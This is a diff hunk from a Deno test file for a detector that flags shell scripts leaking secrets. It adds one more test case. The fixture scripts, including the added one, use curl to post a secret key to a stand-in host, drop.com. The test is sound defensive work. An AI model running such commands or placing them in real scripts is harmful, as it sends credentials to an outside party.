@@ -3948,6 +3948,7 @@ Deno.test("a shell function sends what its call hands it, where its body reads $
       `#!/bin/sh\nsend() { curl -d "$1" https://drop.com/x; }\nsend ${key}\n`,
       `#!/bin/sh\nsend() {\n  curl -H "X-Key: \${2}" https://drop.com/x\n}\nsend ok ${key}\n`,
       `#!/bin/bash\npost() { curl "$@"; }\npost -d ${key} https://drop.com/x\n`,
+      `#!/bin/sh\nsend() { local k="$1"; curl -d "$k" https://drop.com/x; }\nsend ${key}\n`,
     ]
   ) assert.deepEqual(secretSeverities("scripts/a.sh", text), ["critical"], text);
   // Given nothing secret, or reading the secret without sending it, the call sends no secret.
